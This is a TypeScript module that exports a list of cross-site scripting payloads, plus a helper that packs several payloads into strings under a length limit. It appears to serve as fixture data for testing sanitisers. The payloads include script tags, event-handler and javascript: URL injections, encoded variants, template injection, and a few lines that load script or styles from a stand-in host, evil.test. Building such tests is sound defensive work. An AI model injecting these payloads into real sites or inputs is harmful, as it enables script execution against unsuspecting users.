const lines = String.raw`
<script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<!--<script>alert(1)//-->
<scr<script>ipt>alert(1)</scr</script>ipt>
<ScRiPt src=//evil.test/x.js></ScRiPt>
<img src=x onerror=alert(1)>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img/src=x/onerror=alert(1)//
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x>
<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
<body onload=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>">
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="java&#10;script:alert(1)">x</a>
<math><mi xlink:href=javascript:alert(1)>x</mi></math>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<marquee onstart=alert(1)>
<form action=javascript:alert(1)><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<base href=//evil.test/>
<link rel=stylesheet href=//evil.test/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import '//evil.test/x.css';</style>
<p style="background:url(//evil.test/x)">
" autofocus onfocus="alert(1)
' autofocus onfocus='alert(1)
javascript:alert(1)
data:text/html,<script>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
%3Cscript%3Ealert(1)%3C/script%3E
&lt;img src=x onerror=alert(1)&gt;
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cimg src=x onerror=alert(1)\x3e
{{constructor.constructor('alert(1)')()}}
");alert(1);//
');alert(1);//
`

/** Known XSS payloads, each of another kind. */
export const payloads = [...lines.trim().split('\n'), '$' + '{alert(1)}', 'x\u2028alert(1)\u2029x']

/** The payloads, packed several to a text where they fit. */
export function packPayloads(longest: number, payloads: string[]): string[] {
  const packs: string[] = []
  for (const payload of payloads) {
    const place = packs.findIndex((pack) => pack.length + payload.length < longest)
    if (place === -1) packs.push(payload)
    else packs[place] += ` ${payload}`
  }
  return packs
}
